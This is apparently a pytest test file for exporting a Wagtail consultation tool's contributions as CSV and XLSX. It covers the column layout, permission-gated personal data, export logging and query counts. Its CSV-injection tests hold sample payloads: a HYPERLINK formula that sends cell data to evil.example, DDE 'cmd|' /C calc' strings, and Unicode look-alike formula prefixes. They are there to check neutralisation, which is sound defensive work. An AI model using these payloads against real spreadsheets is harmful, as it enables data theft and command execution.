"""Exporting a dialogue's contributions as CSV and XLSX: one column per
survey question in the participant's words, personal data only with its own
permission, formulas neutralised (CSV injection), the export logged on the
dialogue, and a bounded number of queries."""

from datetime import datetime
from zoneinfo import ZoneInfo

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from wagtail.models import PageLogEntry

from tests.participation.support import publish_body, submit, survey
from wagtail_delaktighet import log_actions
from wagtail_delaktighet.admin.export import neutralise_formula

from .contributions_support import (
    as_dicts,
    csv_table,
    export,
    fill_survey,
    listing_url,
    logged_in,
    send_views,
    xlsx_table,
)

pytestmark = pytest.mark.django_db

STOCKHOLM = ZoneInfo("Europe/Stockholm")
MARCH_10 = datetime(2026, 3, 10, 12, 0, tzinfo=STOCKHOLM)

QUESTIONS = [
    "Vad heter din gata?",
    "Beskriv parken",
    "Vilken entré använder du?",
    "Vad gör du i parken?",
    "Hur trygg känner du dig?",
    "Vill du ha fler bänkar?",
]
FIXED = ["Receipt", "Block", "Type", "Status", "Channel", "Created", "Display name"]
PERSONAL = ["Name", "Email", "Consent"]
OTHER = "Answers to questions no longer on the page"

#: What a spreadsheet would run as a formula, each in a cell of its own.
PAYLOADS = {
    "text": '=HYPERLINK("http://evil.example/?d="&A1,"Klicka")',
    "display_name": "+1+cmd|' /C calc'!A0",
    "street": "@SUM(1+1)*cmd|' /C calc'!A0",
    "description": "-1+1",
}


@pytest.fixture
def answers(committee_dialogues):
    """A survey answer from Karin (with email and consent) and anonymous
    views, in committee A's dialogue."""
    dialogue = committee_dialogues.a
    block = dialogue.block("survey")
    return {
        "survey": submit(
            block,
            {
                **fill_survey(block),
                block.question("short_text")[0]: "Parkvägen",
                "name": "Karin Invånare",
                "email": "karin@example.com",
                "consent": "on",
            },
            created_at=MARCH_10,
        ),
        "views": send_views(
            dialogue.block("views"), "Fler bänkar vid dammen.", display_name="Ola"
        ),
    }


def by_receipt(table):
    return {row["Receipt"]: row for row in as_dicts(table)}


# -- neutralising formulas (one function) ---------------------------------------


@pytest.mark.parametrize(
    "value", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "=", "-"]
)
def test_text_a_spreadsheet_would_run_is_prefixed_with_a_quote(value):
    assert neutralise_formula(value) == "'" + value


@pytest.mark.parametrize(
    "value", ["Hej", "", "1-2", "a=b", " =1", "'=1", 5, -1, None, MARCH_10]
)
def test_other_values_pass_unchanged(value):
    assert neutralise_formula(value) == value


#: Look-alikes of the formula signs, and invisible characters before them.
LOOK_ALIKES = [
    "\uff1d1+1",  # full-width =
    "\uff0b1",  # full-width +
    "\uff0d1",  # full-width -
    "\uff20SUM(A1)",  # full-width @
    "\ufe661+1",  # small equals sign
    "\u207c1+1",  # superscript equals sign
    "\u200b=1+1",  # zero-width space
    "\ufeff=1+1",  # byte order mark
    "\u2060\u200b+1",  # word joiner and zero-width space
    "\u00ad@SUM(A1)",  # soft hyphen
    "\u200b\uff1d1+1",  # both at once
]


@pytest.mark.parametrize("value", LOOK_ALIKES)
def test_look_alike_formula_starts_are_prefixed_with_a_quote(value):
    assert neutralise_formula(value) == "'" + value


@pytest.mark.parametrize("value", ["\u200bHej", "\uff11-2", "a\uff1db", "\u00e5=1"])
def test_text_with_invisible_or_full_width_characters_passes_unchanged(value):
    assert neutralise_formula(value) == value


@pytest.mark.parametrize("read", [csv_table, xlsx_table], ids=["csv", "xlsx"])
def test_look_alike_formulas_are_neutralised_in_the_files(
    admin, committee_dialogues, read
):
    dialogue = committee_dialogues.a
    for value in LOOK_ALIKES:
        send_views(dialogue.block("views"), value, display_name=value)

    cells = exported_cells(read(admin, dialogue))

    for value in LOOK_ALIKES:
        assert value not in cells
        assert cells.count("'" + value) == 2


# -- what is exported ----------------------------------------------------------


def test_the_csv_has_one_column_per_question_and_the_answers_in_words(
    admin, committee_dialogues, answers
):
    table = csv_table(admin, committee_dialogues.a)

    assert table[0] == [*FIXED, *PERSONAL, "Text", *QUESTIONS, OTHER]
    rows = by_receipt(table)
    karin = rows[answers["survey"].receipt]
    assert karin["Block"] == "Enkät om parken"
    assert karin["Type"] == "Survey"
    assert karin["Status"] == "Not public"
    assert karin["Channel"] == "Website"
    assert karin["Created"] == "2026-03-10 12:00:00"  # local time
    assert karin["Vad heter din gata?"] == "Parkvägen"
    assert karin["Beskriv parken"] == "Mörk om kvällarna."
    assert karin["Vilken entré använder du?"] == "Södra"
    assert karin["Vad gör du i parken?"] == "Promenerar; Grillar"
    assert karin["Hur trygg känner du dig?"] == "4"
    assert karin["Vill du ha fler bänkar?"] == "Yes"
    assert (karin["Name"], karin["Email"], karin["Consent"]) == (
        "Karin Invånare",
        "karin@example.com",
        "Yes",
    )
    ola = rows[answers["views"].receipt]
    assert (ola["Text"], ola["Display name"], ola["Type"]) == (
        "Fler bänkar vid dammen.",
        "Ola",
        "Give your views",
    )
    assert (ola["Name"], ola["Email"], ola["Consent"]) == ("", "", "")
    assert ola["Beskriv parken"] == ""


def test_the_xlsx_has_the_same_columns_and_values(admin, committee_dialogues, answers):
    table = xlsx_table(admin, committee_dialogues.a)

    assert list(table[0]) == [*FIXED, *PERSONAL, "Text", *QUESTIONS, OTHER]
    karin = by_receipt(table)[answers["survey"].receipt]
    assert karin["Created"] == datetime(2026, 3, 10, 12, 0)  # local time
    assert karin["Vilken entré använder du?"] == "Södra"
    assert karin["Vad gör du i parken?"] == "Promenerar; Grillar"
    assert karin["Email"] == "karin@example.com"


def test_without_the_permission_no_personal_data_leaves(
    committee_dialogues, committee_staff, answers
):
    client = logged_in(committee_staff.moderator_a)

    for read in (csv_table, xlsx_table):
        table = read(client, committee_dialogues.a)
        assert list(table[0]) == [*FIXED, "Text", *QUESTIONS, OTHER]
        cells = {str(cell) for row in table for cell in row}
        assert not {"karin@example.com", "Karin Invånare"} & cells
        # The content itself is still there.
        assert "Södra" in cells


def test_the_export_follows_the_listings_filters(admin, committee_dialogues, answers):
    table = csv_table(admin, committee_dialogues.a, status="pending")

    assert [row["Receipt"] for row in as_dicts(table)] == [answers["views"].receipt]


def test_the_file_is_named_after_the_dialogue(admin, committee_dialogues, answers):
    response, _content = export(admin, committee_dialogues.a, "xlsx")

    slug = committee_dialogues.a.page.slug
    assert f'filename="contributions-{slug}-' in response["Content-Disposition"]


def test_answers_to_a_removed_block_are_kept(admin, committee_dialogues, answers):
    # The editor replaces the survey: the answers must not vanish from exports.
    survey_block = committee_dialogues.a.block("survey")
    long_text_id = survey_block.question("long_text")[1]
    publish_body(committee_dialogues.a.page, [survey(QUESTIONS_V2)])

    karin = by_receipt(csv_table(admin, committee_dialogues.a))[
        answers["survey"].receipt
    ]

    assert karin["Block"] == "(removed from the page)"
    assert karin["Type"] == "Survey"
    assert f"{long_text_id}: Mörk om kvällarna." in karin[OTHER]


QUESTIONS_V2 = [{"question": "Ny fråga", "kind": "short_text", "required": False}]


# -- CSV injection -------------------------------------------------------------


@pytest.fixture
def payloads(committee_dialogues):
    """Formulas in views, a display name and survey answers, and a question
    text an editor began with "="."""
    dialogue = committee_dialogues.a
    block = dialogue.block("survey")
    views_block = dialogue.block("views")
    send_views(views_block, PAYLOADS["text"], display_name=PAYLOADS["display_name"])
    submit(
        block,
        fill_survey(
            block,
            **{
                block.question("short_text")[0]: PAYLOADS["street"],
                block.question("long_text")[0]: PAYLOADS["description"],
            },
        ),
    )
    return dialogue


def exported_cells(table):
    return [str(cell) for row in table for cell in row if cell != ""]


@pytest.mark.parametrize("read", [csv_table, xlsx_table], ids=["csv", "xlsx"])
def test_formulas_are_neutralised(admin, payloads, read):
    cells = exported_cells(read(admin, payloads))

    for payload in PAYLOADS.values():
        assert payload not in cells
        assert "'" + payload in cells
    # No cell at all begins like a formula.
    assert not [cell for cell in cells if cell[0] in "=+-@\t\r"]


def test_xlsx_cells_are_text_not_formulas(admin, payloads):
    import io

    import openpyxl

    _response, content = export(admin, payloads, "xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.value


@pytest.mark.parametrize("read", [csv_table, xlsx_table], ids=["csv", "xlsx"])
def test_a_question_text_beginning_like_a_formula_is_neutralised(
    admin, consultation_dialogue, read
):
    dialogue = consultation_dialogue(
        body=[
            survey(
                [
                    {
                        "question": "=cmd|' /C calc'!A0",
                        "kind": "short_text",
                        "required": True,
                    }
                ]
            )
        ]
    )

    headings = read(admin, dialogue)[0]

    assert "'=cmd|' /C calc'!A0" in headings
    assert "=cmd|' /C calc'!A0" not in headings


# -- the log and the cost -----------------------------------------------------------


def test_each_export_is_logged_on_the_dialogue(
    admin, committee_dialogues, committee_staff, answers, editor
):
    page = committee_dialogues.a.page
    csv_table(admin, committee_dialogues.a, status="pending")
    xlsx_table(logged_in(committee_staff.moderator_a), committee_dialogues.a)

    entries = list(
        PageLogEntry.objects.filter(page=page, action=log_actions.EXPORT).order_by("pk")
    )
    assert [(e.user, e.data["format"], e.data["personal_data"]) for e in entries] == [
        (editor, "csv", True),
        (committee_staff.moderator_a, "xlsx", False),
    ]
    assert entries[0].data["filters"] == {"status": "pending"}
    assert entries[0].message == "Contributions exported"


def test_viewing_the_listing_is_not_logged_as_an_export(admin, committee_dialogues):
    assert admin.get(listing_url(committee_dialogues.a)).status_code == 200

    assert not PageLogEntry.objects.filter(action=log_actions.EXPORT).exists()


def export_queries(client, dialogue):
    with CaptureQueriesContext(connection) as queries:
        export(client, dialogue, "csv")
    return len(queries)


def test_a_small_export_reads_its_rows_and_logs_itself_in_a_few_queries(
    admin, committee_dialogues, answers
):
    export(admin, committee_dialogues.a, "csv")

    # The session, the user, their profile and the page; Wagtail's log entry
    # (its checks of the page, user and content type, and one insert) and one
    # read of the rows (not a server-side cursor's declare, fetch and close);
    # for staff who may see personal data, which background questions were
    # answered (their columns).
    with CaptureQueriesContext(connection) as queries:
        export(admin, committee_dialogues.a, "csv")
    log_entries = [q for q in queries if PageLogEntry._meta.db_table in q["sql"]]
    assert len(log_entries) == 1
    assert log_entries[0]["sql"].startswith("INSERT")
    assert len(queries) <= 10


def test_the_export_costs_the_same_queries_for_2_and_12_contributions(
    admin, committee_dialogues, answers
):
    export(admin, committee_dialogues.a, "csv")
    few = export_queries(admin, committee_dialogues.a)

    block = committee_dialogues.a.block("survey")
    for n in range(10):
        submit(
            block,
            {
                **fill_survey(block),
                "name": f"Person {n}",
                "email": f"p{n}@example.com",
                "consent": "on",
            },
        )

    assert export_queries(admin, committee_dialogues.a) == few
